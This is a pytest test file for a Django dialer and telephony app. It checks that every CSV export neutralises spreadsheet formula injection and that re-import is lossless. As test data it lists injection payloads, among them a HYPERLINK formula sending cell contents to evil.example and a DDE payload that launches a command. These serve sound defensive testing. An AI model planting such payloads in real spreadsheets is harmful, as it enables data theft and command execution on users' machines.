"""CSV/XLSX formula injection: every export neutralises cells, the importer undoes it exactly.

Finds the exports two ways so a new one cannot slip by: the source (no module but
``core/spreadsheet.py`` builds a CSV/XLSX writer; ``text/csv`` only where this test knows
the endpoints) and the URL map (every operation of the OpenAPI schema that answers
``text/csv`` must be one this test downloads and checks).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from central.core.spreadsheet import FORMULA_TRIGGERS, neutralize, unneutralize
from central.dialer import importer
from central.dialer.models import Contact
from tests.dialer import factories

SRC = Path(__file__).resolve().parents[2] / "src" / "central"

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=já citado",
    "''+duas aspas",
    "'normal com aspa",
    "Ana Conceição",
    "",
    "'",
]

#: (method, path template) of every CSV download, with how this test requests it.
CSV_OPERATIONS = {
    ("get", "/api/v1/dialer/campaigns/{id}/export/"),
    ("get", "/api/v1/dialer/imports/{id}/errors/"),
}


#: CSV downloads of the dashboard pages (not in the API schema), checked below.
PAGE_DOWNLOADS = {"/telephony/calls/export.csv"}


@pytest.mark.django_db
def test_every_csv_download_of_the_pages_is_neutralised(tenants, client):
    from tests.telephony.factories import make_call_record

    for i, value in enumerate(NASTY):
        make_call_record(tenants["a"], linkedid=f"nasty-{i}", from_number=value, to_number=value, agent=value,
                         queue=value[:80])
    client.force_login(tenants["alice"])
    for path in PAGE_DOWNLOADS:
        response = client.get(path)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), path
        rows = _cells(response)
        assert len(rows) == len(NASTY) + 1, path
        assert [c for row in rows for c in row if c.startswith(FORMULA_TRIGGERS)] == [], path
        assert sorted(r[2] for r in rows[1:]) == sorted(neutralize(v) for v in NASTY)


def test_neutralize_is_undone_exactly_and_defuses_every_trigger():
    for value in NASTY + [t + "x" for t in FORMULA_TRIGGERS]:
        out = neutralize(value)
        assert not out.startswith(FORMULA_TRIGGERS), value
        assert unneutralize(out) == value, value
    assert neutralize("+5511987654321") == "'+5511987654321"  # E.164 too (OWASP)
    assert neutralize(12) == 12 and neutralize(None) is None


def test_no_module_writes_csv_or_xlsx_without_the_safe_writer():
    writer = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|xlsxwriter")
    offenders = [str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
                 if p.name != "spreadsheet.py" and writer.search(p.read_text())]
    assert offenders == []
    serving = sorted(str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
                     if p.name != "spreadsheet.py" and "text/csv" in p.read_text())
    assert serving == ["dialer/api.py", "telephony/export.py"], \
        "a new CSV endpoint: add it to CSV_OPERATIONS (API) or PAGE_DOWNLOADS (pages) and check it here"


def _csv_operations_in_schema() -> set[tuple[str, str]]:
    from drf_spectacular.generators import SchemaGenerator

    schema = SchemaGenerator().get_schema(request=None, public=True)
    found = set()
    for path, ops in schema["paths"].items():
        for method, op in ops.items():
            for response in (op.get("responses") or {}).values():
                if any("csv" in ctype for ctype in (response.get("content") or {})):
                    found.add((method, path))
    return found


def _cells(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.django_db
def test_every_csv_download_of_the_url_map_is_neutralised(tenants, api_as, tmp_path):
    assert _csv_operations_in_schema() == CSV_OPERATIONS
    org = tenants["a"]
    camp = factories.campaign(org, name="=campanha")
    for i, name in enumerate(NASTY):
        c = factories.contact(org, camp, name=name, phone=f"+55119876543{i:02d}", alt_phones=["+551132654321"],
                              custom_fields={"obs": name}, origin=name)
        factories.attempt(org, c, agent=name, queue="-fila", uid=f"u{i}")
    bad = tmp_path / "lista.csv"
    bad.write_text("nome;telefone;=cmd\n=HYPERLINK(\"x\");12;@x\n", encoding="utf-8")
    job = importer.import_contacts(importer.new_job(org, kind="contacts", filename="l.csv", stored_path=bad,
                                                    campaign=camp))
    assert job.errors_path
    alice = api_as(tenants["alice"])
    downloads = {
        "export": alice.get(f"/api/v1/dialer/campaigns/{camp.pk}/export/"),
        "export attempts": alice.get(f"/api/v1/dialer/campaigns/{camp.pk}/export/", {"attempts": "1"}),
        "errors": alice.get(f"/api/v1/dialer/imports/{job.pk}/errors/"),
    }
    tables = {}
    for label, response in downloads.items():
        assert response.status_code == 200, label
        rows = tables[label] = _cells(response)
        assert len(rows) > 1, label
        dangerous = [c for row in rows for c in row if c.startswith(FORMULA_TRIGGERS)]
        assert dangerous == [], label
    export = tables["export"]
    assert [r[1] for r in export[1:]] == [neutralize(n) for n in NASTY]
    assert export[1][2] == "'+5511987654300"


@pytest.mark.django_db
def test_round_trip_of_our_export_is_lossless(tenants, api_as, tmp_path):
    """Export, re-import into another campaign: names, phones, fields come back byte for byte."""
    org = tenants["a"]
    source = factories.campaign(org, name="origem")
    for i, name in enumerate(NASTY):
        factories.contact(org, source, name=name, phone=f"+55119876543{i:02d}", origin=name)
    r = api_as(tenants["alice"]).get(f"/api/v1/dialer/campaigns/{source.pk}/export/")
    path = tmp_path / "export.csv"
    path.write_bytes(b"".join(r.streaming_content))
    reader = importer.read_rows(path)
    rows = list(reader.rows)
    reader.close()
    assert [cells[1] for _, cells in rows[1:]] == NASTY  # the reader sees the values we wrote
    target = factories.campaign(org, name="destino")
    job = importer.import_contacts(importer.new_job(org, kind="contacts", filename="export.csv", stored_path=path,
                                                    campaign=target))
    assert (job.status, job.imported, job.rejected) == ("done", len(NASTY), 0), job.errors
    # (an empty origin is replaced by the import's own, by design)
    before = {c.phone: (c.name, c.origin or "importação export.csv") for c in Contact.objects.filter(campaign=source)}
    after = {c.phone: (c.name, c.origin) for c in Contact.objects.filter(campaign=target)}
    # The importer trims spaces around names by design (tab/CR-led names lose them), so the
    # database comparison is on values that have none; the reader check above covers all.
    trimmed = {p: v for p, v in before.items() if v[0] == v[0].strip()}
    assert {p: after[p] for p in trimmed} == trimmed
    assert len(trimmed) == len(NASTY) - 2
